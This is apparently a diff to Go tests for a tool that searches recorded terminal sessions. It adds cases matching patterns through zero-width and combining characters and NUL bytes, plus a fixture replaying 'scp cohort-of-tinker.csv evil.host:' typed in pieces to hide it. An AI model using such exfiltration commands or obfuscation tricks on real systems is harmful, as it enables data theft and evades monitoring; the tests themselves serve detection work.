@@ -267,6 +267,14 @@ func TestPattern(t *testing.T) {
 		{Pattern{}, "(?i)abc", "xABC", "ABC"},
 		{Pattern{FoldCase: true, Fixed: true}, "A+[", "xa+[", "a+["},
 		{Pattern{Fixed: true}, "none", "non", ""},
+		{Pattern{}, "CANARY", "a CAN\u200dA\ufe0fR\u034fY b", "CAN\u200dA\ufe0fR\u034fY"},
+		{Pattern{}, "CANARY$", "CANA\u0301RY\u0302\u0300", "CANA\u0301RY\u0302\u0300"},
+		{Pattern{}, "echo", "x; ec\x00ho y", "ec\x00ho"},
+		{Pattern{Fixed: true}, "Gru\u0308ße", "viele Grüße", "Grüße"},
+		{Pattern{Fixed: true, FoldCase: true}, "grüße", "viele GRU\u0308SSE, Gru\u0308ße", "Gru\u0308ße"},
+		{Pattern{}, "^ab$", "\u200ba\u00adb\u3164", "a\u00adb\u3164"},
+		{Pattern{}, "b", "\xffa\u0300\xfeb", "b"},
+		{Pattern{}, "none", "n\u200do", ""},
 		{Pattern{FoldCase: true}, "[@", "", "error"},
 	} {
 		match, err := tc.p.Compile(tc.pattern)
@@ -284,4 +292,16 @@ func TestPattern(t *testing.T) {
 			t.Errorf("%v %q in %q gives %q, not %q", tc.p, tc.pattern, tc.line, got, tc.want)
 		}
 	}
+}
+
+// A command that its screen tells in pieces is found as a command; one that stands on a
+// line as it was typed is found once, as that.
+func TestSearchFindsCommandsThatNoLineHas(t *testing.T) {
+	dir := t.TempDir()
+	record(t, dir, 1, "alice", true, shell(1,
+		"scp cohort-of-tinker.csv wrong:", "\b\b\b\b\b\b\x1b[K", "evil.host:", "\r\n", "\x1b[A\r\x1b[27Cother-text\r\n$ ", "\x1b[H\x1b[2J$ ", "n", "eedle.csv evil.host:", "\r\nnot found\r\n$ ")...)
+	same(t, "commands in pieces", found(t, dir, "csv evil", Query{}),
+		"01/1 +9s output: $ needle.csv evil.host:", "01/1 +5s commands: scp cohort-of-tinker.csv evil.host:")
+	same(t, "commands alone", found(t, dir, "csv evil", Query{In: []Field{Commands}}),
+		"01/1 +5s commands: scp cohort-of-tinker.csv evil.host:", "01/1 +10s commands: needle.csv evil.host:")
 }
